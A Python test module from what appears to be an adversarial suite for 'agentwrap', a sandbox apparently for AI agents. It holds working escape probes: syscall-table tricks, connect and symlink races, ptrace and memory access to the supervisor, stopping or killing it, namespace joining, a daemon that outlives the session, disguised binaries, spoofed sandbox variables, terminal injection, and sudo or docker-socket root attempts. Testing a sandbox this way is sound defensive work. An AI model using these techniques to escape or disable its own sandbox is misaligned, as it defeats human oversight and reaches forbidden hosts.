"""Rows 39 to 51 and 58 to 60: system calls that go around, and attacks on the one who watches."""

import contextlib
import ctypes
import errno
import fcntl
import json
import mmap
import os
import shutil
import signal
import socket
import struct
import subprocess
import time
from pathlib import Path

from addresses import ALLOWED, RESOLVER, forbidden
from probing import (
    PATIENCE_S,
    Row,
    Skip,
    Told,
    ask,
    converse,
    libc,
    python,
    say,
    sockaddr,
    supervisors,
    syscall,
    verdict,
)

NEWNS, NEWUSER, NEWPID, NEWNET = 0x20000, 0x10000000, 0x20000000, 0x40000000
SAY = """
import sys
sys.path[:0] = sys.argv[1:3]
import probing
print(probing.say(sys.argv[3], int(sys.argv[4]), sys.argv[5]))
"""


def _say_as(program: list[str], row: int, mark: str, port: int = 80) -> str:
    """The same connection, made by another program."""
    here = Path(__file__).resolve().parent
    words = [*program, "-B", "-c", SAY, str(here), str(here.parent), forbidden(row), str(port), mark]
    done = subprocess.run(words, capture_output=True, text=True, timeout=PATIENCE_S)
    if done.returncode:
        number = getattr(
            errno,
            next((word for word in ("ECONNREFUSED", "ECONNRESET", "EACCES", "EPERM") if word in done.stderr), ""),
            0,
        )
        last = (done.stderr.strip().splitlines() or [f"ended with {done.returncode}"])[-1]
        raise OSError(number, last) if number else Told(last)
    return done.stdout.strip()


def row_39(row: Row) -> None:
    def setup(_mark: str) -> str:
        os.close(syscall(425, 4, ctypes.create_string_buffer(120)))
        return "a ring"

    def others(_mark: str) -> str:
        for number in (426, 427):
            try:
                syscall(number, 0, 0, 0, 0, 0, 0)
            except OSError as error:
                if error.errno != errno.ENOSYS:
                    raise OSError(0, f"call {number} exists: {error}") from error
        raise OSError(errno.ENOSYS, "not there")

    row.attempt("io_uring_setup", setup, local=True)
    row.attempt("io_uring_enter, io_uring_register", others, local=True)


def _low(size: int) -> int:
    """Memory below 4 GiB that may be run (MAP_32BIT), for what speaks with 32-bit pointers."""
    libc.mmap.restype = ctypes.c_void_p
    at = libc.mmap(None, ctypes.c_size_t(size), 7, 0x22 | 0x40, -1, 0)
    if at in (None, ctypes.c_void_p(-1).value):
        raise Skip("no memory below 4 GiB")
    return int(at)


def _int80(number: int, *arguments: int) -> int:
    """One call of the i386 table from 64-bit code."""
    libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    # push rbx; load ebx, ecx, edx, esi, edi; mov eax; int 0x80; pop rbx; ret
    code = b"\x53"
    for opcode, value in zip((0xBB, 0xB9, 0xBA, 0xBE, 0xBF), arguments, strict=False):
        code += bytes([opcode]) + struct.pack("<I", value & 0xFFFFFFFF)
    code += b"\xb8" + struct.pack("<I", number) + b"\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    result = int(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())
    if -4096 < result < 0:
        raise OSError(-result, os.strerror(-result))
    return result


def row_40(row: Row) -> None:
    def by_socketcall(mark: str, direct: bool) -> str:
        low = _low(4096)
        address = sockaddr(forbidden(40), 80)
        ctypes.memmove(low, address, 16)
        ctypes.memmove(low + 64, struct.pack("<3I", socket.AF_INET, socket.SOCK_STREAM, 0), 12)
        descriptor = _int80(102, 1, low + 64)
        ctypes.memmove(low + 64, struct.pack("<3I", descriptor, low, 16), 12)
        if direct:
            _int80(362, descriptor, low, 16)
        else:
            _int80(102, 3, low + 64)
        with socket.socket(fileno=descriptor) as sock:
            return converse(sock, mark.encode())

    def x32(mark: str) -> str:
        with socket.socket() as sock:
            syscall(0x40000000 | 42, sock.fileno(), ctypes.create_string_buffer(sockaddr(forbidden(40), 80)), 16)
            return converse(sock, mark.encode())

    row.attempt("i386 socketcall", lambda mark: by_socketcall(mark, False), port=80)
    row.attempt("i386 connect", lambda mark: by_socketcall(mark, True), port=80)
    row.attempt("x32 connect", x32, local=True)


def _flipper() -> int:
    """fork(2); the child goes with us, however we end: it holds the pipes that the end of the row is read from."""
    pid = os.fork()
    if not pid:
        libc.prctl(1, signal.SIGKILL, 0, 0, 0)  # PR_SET_PDEATHSIG
    return pid


def row_41(row: Row) -> None:
    def race(mark: str) -> object:
        """One process connects, another rewrites the address in the memory they share."""
        good, bad = sockaddr(ALLOWED, 80), sockaddr(forbidden(41), 80)
        shared = mmap.mmap(-1, mmap.PAGESIZE)
        shared[:16] = good
        pointer = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(shared)))
        with contextlib.suppress(OSError):
            ask(b"allowed.example", RESOLVER)
        flipping = _flipper()
        if not flipping:
            while True:
                shared[:16] = bad
                shared[:16] = good
        sent = 0
        try:
            for _ in range(400):
                with socket.socket() as sock:
                    if libc.connect(sock.fileno(), pointer, 16):
                        continue
                    with contextlib.suppress(OSError):
                        sock.settimeout(PATIENCE_S)
                        sock.sendall(b"GET /x HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
                        sent += bool(sock.recv(100))
        finally:
            os.kill(flipping, signal.SIGKILL)
            os.waitpid(flipping, 0)
        return {"reached": "", "refused": "", "detail": f"{sent} of 400 connections were answered"}

    row.attempt("the address is rewritten while connect runs", race, port=80, race=True)


def row_42(row: Row) -> None:
    folder = Path(os.environ["ADVERSARY_FOLDER"])
    victim = folder / "outside" / "victim-42"

    def swap(_mark: str) -> str:
        """A symbolic link changes between an allowed and a forbidden target while somebody opens it for writing."""
        Path("mine-42").write_text("mine\n")
        flipping = _flipper()
        while not flipping:
            for number, target in enumerate((str(victim), "mine-42")):
                with contextlib.suppress(OSError):
                    os.symlink(target, f"swap-{number}")
                    os.rename(f"swap-{number}", "swapped")
        while not os.path.lexists("swapped"):
            os.sched_yield()
        try:
            for _ in range(400):
                with contextlib.suppress(OSError):
                    descriptor = os.open("swapped", os.O_WRONLY)
                    os.write(descriptor, b"taken\n")
                    os.close(descriptor)
        finally:
            os.kill(flipping, signal.SIGKILL)
            os.waitpid(flipping, 0)
        text = victim.read_text()
        if text != "untouched\n":
            return f"the file outside has {text!r}"
        raise PermissionError(errno.EACCES, "never written")

    row.attempt("a symbolic link that changes its target", swap, local=True, path=str(victim))


def row_43(row: Row) -> None:
    def each(work, _mark: str) -> str:  # type: ignore[no-untyped-def]
        targets = supervisors()
        if not targets:
            raise OSError(errno.ESRCH, "no process of agentwrap's is visible")
        last: OSError | None = None
        for pid in targets:
            try:
                return f"{work(pid)} of {pid}"
            except OSError as error:
                last = error
        assert last is not None
        raise last

    def memory(pid: int) -> str:
        descriptor = os.open(f"/proc/{pid}/mem", os.O_RDWR)
        os.close(descriptor)
        return "opened the memory"

    def foreign(number: int, pid: int) -> str:
        """process_vm_readv, process_vm_writev: an address of our own, since the question is whether we may at all."""
        byte = ctypes.create_string_buffer(8)
        vector = ctypes.create_string_buffer(struct.pack("@PN", ctypes.addressof(byte), 1))
        try:
            syscall(number, pid, vector, 1, vector, 1, 0)
        except OSError as error:
            if error.errno != errno.EFAULT:
                raise
        return "looked into the memory"

    def trace(pid: int) -> str:
        syscall(101, 0x4206, pid, 0, 0)  # PTRACE_SEIZE
        return "traced"

    def descriptor(pid: int) -> str:
        handle = os.pidfd_open(pid)
        for number in range(3, 40):
            with contextlib.suppress(OSError):
                os.close(syscall(438, handle, number, 0))
                return "took a descriptor"
        return syscall(438, handle, 0, 0) * "" or "took a descriptor"

    row.attempt("/proc/PID/mem of agentwrap", lambda mark: each(memory, mark), local=True)
    row.attempt("process_vm_readv of agentwrap", lambda mark: each(lambda pid: foreign(310, pid), mark), local=True)
    row.attempt("process_vm_writev of agentwrap", lambda mark: each(lambda pid: foreign(311, pid), mark), local=True)
    row.attempt("ptrace of agentwrap", lambda mark: each(trace, mark), local=True)
    row.attempt("pidfd_getfd of agentwrap", lambda mark: each(descriptor, mark), local=True)

    def sibling(mark: str) -> str:
        """Its own child is its own affair; what it makes the child do is judged as the child's."""
        child = subprocess.Popen([python(), "-B", "-c", "import time; time.sleep(4)"])
        try:
            syscall(101, 0x4206, child.pid, 0, 0)
            return "traced a child"
        finally:
            child.kill()
            child.wait()

    row.attempt("ptrace of a child of its own", sibling, local=True)


def row_44(row: Row) -> None:
    def harmless(_mark: str) -> str:
        targets = supervisors()
        if not targets:
            raise OSError(errno.ESRCH, "no process of agentwrap's is visible")
        done, last = [], None
        for pid in targets:
            try:
                os.kill(pid, signal.SIGCONT)
                done.append(pid)
            except OSError as error:
                last = error
        if done:
            return f"signalled {len(done)} of {len(targets)} processes"
        raise last or OSError(errno.ESRCH, "")

    def by_pidfd(_mark: str) -> str:
        for pid in supervisors():
            handle = os.pidfd_open(pid)
            signal.pidfd_send_signal(handle, signal.SIGCONT)
            return "signalled by pidfd"
        raise OSError(errno.ESRCH, "no process of agentwrap's is visible")

    row.attempt("kill", harmless, local=True)
    row.attempt("pidfd_send_signal", by_pidfd, local=True)


def _join(_mark: str) -> str:
    """By the files in /proc, and by a handle of the process (setns(2), Linux 5.8)."""
    last: OSError = OSError(errno.ESRCH, "no process of agentwrap's is visible")
    ours = os.readlink("/proc/self/ns/net")
    for pid in supervisors():
        for kind, flag in (("net", NEWNET), ("mnt", NEWNS), ("user", NEWUSER)):
            try:
                if kind == "net" and os.readlink(f"/proc/{pid}/ns/net") == ours:
                    continue
                syscall(308, os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0)
            except OSError as error:
                last = error
            else:
                return f"joined {kind} of {pid}"
            try:
                syscall(308, os.pidfd_open(pid), flag)
            except OSError as error:
                last = error
            else:
                return f"joined {kind} of {pid}"
    raise last


def row_45(row: Row) -> None:
    def fresh(mark: str) -> str:
        """A network namespace inside is allowed, nested sandboxes need it; it has no way out."""
        syscall(272, NEWUSER | NEWNET)
        return say(forbidden(45), 80, mark)

    def cloned(mark: str) -> str:
        """clone3, and where that is not there clone, as a C library does."""
        flags = NEWUSER | NEWNET
        arguments = struct.pack("=8Q", flags, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
        reading, writing = os.pipe()
        try:
            pid = syscall(435, ctypes.create_string_buffer(arguments), len(arguments))
        except OSError as error:
            if error.errno != errno.ENOSYS:
                raise
            pid = syscall(56, flags | signal.SIGCHLD, 0, 0, 0, 0)
        if not pid:
            try:
                os.write(writing, say(forbidden(45), 443, mark).encode())
            except OSError as error:
                os.write(writing, f"!{error.errno}".encode())
            os._exit(0)
        os.waitpid(pid, 0)
        answer = os.read(reading, 1000).decode()
        if answer.startswith("!"):
            raise OSError(int(answer[1:]), os.strerror(int(answer[1:])))
        return answer

    row.attempt("setns to agentwrap's namespaces", _join, local=True)
    row.attempt("unshare, then connect", fresh, port=80)
    row.attempt("clone3 or clone with namespaces, then connect", cloned, port=443)


def row_46(row: Row) -> None:
    def daemon(mark: str) -> str:
        """Twice forked, a session of its own, its parent gone: and then it connects."""
        reading, writing = os.pipe()
        if not os.fork():
            os.setsid()
            middle = os.getpid()
            if not os.fork():
                quiet = os.open("/dev/null", os.O_RDWR)
                for number in range(3):
                    os.dup2(quiet, number)
                while os.getppid() == middle:
                    os.sched_yield()
                try:
                    answer = say(forbidden(46), 80, mark)
                except OSError as error:
                    answer = f"!{error.errno or 0}"
                os.write(writing, f"{os.getpid()} {answer}".encode())
                os.close(writing)
                time.sleep(60)
            os._exit(0)
        os.close(writing)
        os.wait()
        pid, _, answer = os.read(reading, 1000).decode().partition(" ")
        if answer.startswith("!"):
            number = int(answer[1:])
            refused = errno.errorcode.get(number, "Told")
            return {"refused": refused, "detail": os.strerror(number), "more": {"daemon": int(pid)}}  # type: ignore[return-value]
        return {"reached": answer, "more": {"daemon": int(pid)}}  # type: ignore[return-value]

    row.attempt("a daemon connects, and stays", daemon, port=80, outlives=True)


def row_47(row: Row) -> None:
    def traceme(mark: str) -> str:
        with contextlib.suppress(OSError):
            syscall(101, 0, 0, 0, 0)
        return say(forbidden(47), 80, mark)

    def undumpable(mark: str) -> str:
        libc.prctl(4, 0, 0, 0, 0)
        return say(forbidden(47), 443, mark)

    def filtered(mark: str) -> str:
        """Its own seccomp filter answers connect with success; then the call itself by another way."""
        libc.prctl(38, 1, 0, 0, 0)
        code = struct.pack("=HBBI", 0x06, 0, 0, 0x7FFF0000)
        held = ctypes.create_string_buffer(code)
        syscall(317, 1, 0, ctypes.create_string_buffer(struct.pack("@HP", 1, ctypes.addressof(held))))
        return say(forbidden(47), 853, mark)

    def listener(mark: str) -> str:
        libc.prctl(38, 1, 0, 0, 0)
        code = struct.pack("=HBBI", 0x06, 0, 0, 0x7FFF0000)
        held = ctypes.create_string_buffer(code)
        syscall(317, 1, 8, ctypes.create_string_buffer(struct.pack("@HP", 1, ctypes.addressof(held))))
        return "a listener of its own"

    row.attempt("PTRACE_TRACEME, then connect", traceme, port=80)
    row.attempt("not dumpable, then connect", undumpable, port=443)
    row.attempt("a filter of its own, then connect", filtered, port=853)
    row.attempt("a notification listener of its own", listener, local=True)


def row_48(row: Row) -> None:
    def look(_mark: str) -> str:
        text = Path("/proc/self/status").read_text()
        tracer = next(line for line in text.splitlines() if line.startswith("TracerPid"))
        filters = next((line for line in text.splitlines() if line.startswith("Seccomp_filters")), "")
        return f"{tracer} {filters}".replace("\t", " ")

    row.attempt("TracerPid, Seccomp_filters", look, accepted=True, local=True)


def row_49(row: Row) -> None:
    def starve(mark: str) -> str:
        """Stop every process of agentwrap that a signal reaches, then connect."""
        stopped = []
        for pid in supervisors():
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGSTOP)
                stopped.append(pid)
        try:
            return say(forbidden(49), 80, mark)
        finally:
            for pid in stopped:
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGCONT)

    def kill(mark: str) -> str:
        for pid in supervisors():
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        return say(forbidden(49), 443, mark)

    row.attempt("SIGSTOP to agentwrap, then connect", starve, port=80)
    row.attempt("SIGKILL to agentwrap, then connect", kill, port=443, last=True)


def row_50(row: Row) -> None:
    def memfd(mark: str) -> str:
        program = os.memfd_create("nothing", 0)
        with open(os.path.realpath(python()), "rb") as source:
            os.sendfile(program, source.fileno(), 0, 1 << 30)
        return _say_as([f"/proc/{os.getpid()}/fd/{program}"], 50, mark)

    def loader(mark: str) -> str:
        loaders = [Path(one) for one in ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-musl-x86_64.so.1")]
        found = next((str(one) for one in loaders if one.exists()), "")
        if not found:
            raise Skip("no loader of a known name")
        return _say_as([found, os.path.realpath(python())], 50, mark, 443)

    def copied(mark: str) -> str:
        """A copy under another name in a folder of its own."""
        shutil.copy(os.path.realpath(python()), "curl")
        Path("curl").chmod(0o755)
        return _say_as([os.path.abspath("curl")], 50, mark, 853)

    row.attempt("a program that only lies in memory", memfd, port=80, needs_home=True)
    row.attempt("the loader given the program", loader, port=443, needs_home=True)
    row.attempt("a copy under an innocent name", copied, port=853, needs_home=True)


def row_51(row: Row) -> None:
    def flood(mark: str) -> str:
        """Two thousand refused connects, and one among them that matters."""
        for number in range(2000):
            with socket.socket() as sock, contextlib.suppress(OSError):
                sock.settimeout(PATIENCE_S)
                sock.connect((forbidden(51), 9999))
            if number == 1000:
                with contextlib.suppress(OSError):
                    say(forbidden(51), 22, mark)
        raise OSError(errno.ECONNREFUSED, "all refused")

    row.attempt("one of 2,001 refused connects", flood, port=22, flood=2000)


def row_58(row: Row) -> None:
    def pretend(mark: str) -> str:
        for name in ("AGENTWRAP", "AGENTWRAP_INSIDE", "AGENTWRAP_DISABLE", "AGENTWRAP_NETWORK", "IN_SANDBOX", "CI"):
            os.environ[name] = "1"
        return _say_as([python()], 58, mark)

    def again(mark: str) -> str:
        command = os.environ.get("ADVERSARY_AGENTWRAP", "")
        if not command:
            raise Skip("agentwrap's own command is not known here")
        inner = [
            *json.loads(command),
            "run",
            "-q",
            "-o",
            "inner.agentlog",
            "--best-effort",
            "--network",
            "host",
            "--",
            python(),
        ]
        return _say_as(inner, 58, mark, 443)

    row.attempt("variables that say it is inside already", pretend, port=80)
    row.attempt("agentwrap itself, told to restrict nothing", again, port=443)


def row_59(row: Row) -> None:
    def push(request: int, argument: bytes) -> str:
        try:
            terminal = os.open("/dev/tty", os.O_RDWR)
        except OSError as error:
            raise Skip(f"no terminal here ({error.strerror})") from error
        fcntl.ioctl(terminal, request, argument)
        return "typed on the terminal"

    row.attempt("TIOCSTI", lambda _mark: push(0x5412, b"#"), local=True)
    row.attempt("TIOCLINUX", lambda _mark: push(0x541C, b"\x03" + bytes(16)), local=True)


def row_60(row: Row) -> None:
    def become(name: str) -> str:
        path = shutil.which(name, path="/usr/bin:/bin:/usr/sbin")
        if path is None or not os.stat(path).st_mode & 0o4000:
            raise Skip(f"no set-id {name} here")
        if not os.getuid():
            raise Skip("root is root already")
        words = {"sudo": ["-n", "id", "-u"], "su": ["-c", "id -u"], "passwd": ["-S"]}[name]
        done = subprocess.run(
            [path, *words], capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=PATIENCE_S
        )
        if done.returncode == 0 and done.stdout.strip() == "0":
            return "became root"
        raise OSError(errno.EPERM, (done.stderr or done.stdout).strip()[-120:])

    row.attempt("sudo", lambda _mark: become("sudo"), local=True)
    row.attempt("su", lambda _mark: become("su"), local=True)

    def group(mark: str) -> str:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.connect("/run/docker.sock")
            return verdict(b"outside\n")

    row.attempt("the docker group: its socket", group, path="/run/docker.sock", local=True)
